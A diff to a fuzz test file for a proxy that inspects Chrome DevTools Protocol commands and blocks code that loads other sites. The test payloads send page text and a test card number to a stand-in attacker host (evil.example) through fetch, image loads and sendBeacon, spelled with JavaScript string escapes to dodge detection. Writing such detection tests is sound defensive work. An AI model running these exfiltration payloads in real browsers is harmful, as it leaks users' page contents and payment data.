@@ -10,6 +10,7 @@ import t from 'tap';
 import { WebSocket } from 'ws';
 import { HttpProxyAgent } from 'http-proxy-agent';
 import { startTestAirlock } from './helpers.ts';
+import { cdpLoadsOf } from '../../describe/tunnel-sql.ts';
 import { startWsUpstream } from './websocket-helpers.ts';
 
 const FUZZ_SEED = process.env.AIRLOCK_FUZZ_SEED ? Number(process.env.AIRLOCK_FUZZ_SEED) : undefined;
@@ -237,6 +238,25 @@ t.test('CDP code or markup that names another site closes the socket and never r
     return s.code === 1008 && !ranText().includes('4111');
   }), { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }), examples: Object.keys(cdpCode).map((k) => [k, 'https://evil.example/c?d=4111111111111111'] as [string, string]) });
   t.notOk(ranText().includes('4111'), 'the browser was given no such code');
+});
+
+// The same reading over the spellings JavaScript gives a string (no socket: the reader alone):
+// each character of the URL as itself, `\xHH`, `\uHHHH` or `\u{H}`, a slash as `\/`, in any quote,
+// in code that loads it. Every spelling is read as the URL (or the command refused), never missed.
+const jsSpelling = fc.array(fc.constantFrom('plain', 'x', 'u', 'braced', 'slash'), { minLength: 60, maxLength: 60 });
+t.test('code naming another site in any JavaScript string spelling is read as that URL', async (t) => {
+  const url = 'https://evil.example/c?d=4111';
+  fc.assert(fc.property(jsSpelling, fc.constantFrom("'", '"', '`'), fc.constantFrom('fetch(%)', 'location.href = %', 'new Image().src = %', 'navigator.sendBeacon(%, document.body.innerText)'), fc.constantFrom('Runtime.evaluate', 'Runtime.callFunctionOn', 'Page.addScriptToEvaluateOnNewDocument'), (how, q, stmt, method) => {
+    const hex = (c: string, w: number) => c.charCodeAt(0).toString(16).padStart(w, '0');
+    const lit = [...url].map((c, i) => ({ plain: c, x: `\\x${hex(c, 2)}`, u: `\\u${hex(c, 4)}`, braced: `\\u{${hex(c, 1)}}`, slash: c === '/' ? '\\/' : c })[how[i]!]).join('');
+    const code = stmt.replace('%', `${q}${lit}${q}`);
+    const params = method === 'Runtime.callFunctionOn' ? { functionDeclaration: `function () { ${code}; }` } : method === 'Runtime.evaluate' ? { expression: code } : { source: code };
+    const r = cdpLoadsOf(JSON.stringify(cdp(method, params)));
+    if (r.refused || r.urls.some((u) => new URL(u).hostname === 'evil.example')) return true;
+    t.fail(`${code} was read as ${JSON.stringify(r)}`);
+    return false;
+  }), { numRuns: FUZZ_RUNS * 10, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) });
+  t.same(cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: "document.title + '\\u0041'" }))), { urls: [] }, 'escapes naming no URL load nothing');
 });
 
 t.test('code that makes its host at run time, or names more URLs than are decided, closes the socket', async (t) => {
